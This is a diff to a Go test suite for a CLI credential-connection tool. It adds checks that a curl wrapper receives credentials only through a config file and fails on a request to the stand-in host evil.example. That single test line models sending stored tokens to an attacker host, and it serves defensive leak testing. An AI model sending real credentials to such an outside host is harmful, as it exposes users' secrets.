@@ -108,9 +108,10 @@ func (w *session) does(want int, input string, args ...string) {
 func TestX28EverythingThatIsProduced(t *testing.T) {
 	w := newSession(t)
 	w.connect()
+	w.curl()
 	w.use()
 	w.backup()
-	w.does(0, "", "connections", "logout", "crm", "--revoke")
+	w.does(0, "", "connections", "revoke", "crm")
 	delete(w.secrets, "")
 	outputs := map[string]string{"what was said": w.said.String()}
 	w.check(filepath.WalkDir(filepath.Dir(w.dir), func(path string, d fs.DirEntry, err error) error {
@@ -153,9 +154,35 @@ func (w *session) connect() {
 	w.does(4, sessionAPIKey+"\n", "connections", "add", "keyed", "--service", "keyed", "--flow", "api-key")
 	w.does(4, sessionOwn+"\n", "connections", "login", "crm", "--flow", "refresh-token")
 	w.does(0, "", "connections", "login", "crm", "--redirect", sessionRedirect)
-	for _, args := range [][]string{{"list"}, {"list", "--json"}, {"show", "crm"}, {"show", "crm", "--json"}, {"test", "crm"}, {"test", "crm", "--json"}} {
+	for _, args := range [][]string{{"list"}, {"list", "--json"}, {"show", "crm"}, {"show", "crm", "--json"}, {"test", "crm"}, {"test", "crm", "--json"},
+		{"status", "crm"}, {"status", "crm", "--json"}, {"refresh", "crm"}, {"refresh", "crm", "--force"}, {"refresh", "crm", "--json"},
+		{"rename", "crm", "The CRM"}, {"edit", "crm", "--scopes", "+more"}, {"edit", "crm", "--scopes", "-more"}} {
 		w.does(0, "", append([]string{"connections"}, args...)...)
 	}
+	w.does(4, "", "connections", "doctor", "--online") // the key is a wrong one
+}
+
+// curl runs the program that gets the credentials on its input: they must be neither
+// in its arguments nor in its environment, where others could see them.
+func (w *session) curl() {
+	w.t.Helper()
+	seen := filepath.Join(w.t.TempDir(), "seen")
+	w.env = append(w.env, "CURL_SEEN="+seen)
+	for _, link := range []string{"crm", "keyed"} {
+		w.does(0, "", "connections", "curl", link, "--", "-s", "-d", "a=b", "/x")
+		config, err := os.ReadFile(seen + ".config")
+		w.check(err)
+		if !strings.Contains(string(config), "Bearer ") && !strings.Contains(string(config), "appid=") {
+			w.t.Errorf("curl got no credentials: %s", config)
+		}
+		for _, part := range []string{".argv", ".environ"} {
+			text, err := os.ReadFile(seen + part)
+			w.check(err)
+			w.said.Write(text)
+		}
+	}
+	w.does(4, "", "connections", "curl", "crm", "--", "https://evil.example/x")
+	w.setEnv()
 }
 
 // use runs scripts that work and scripts that fail in every way.
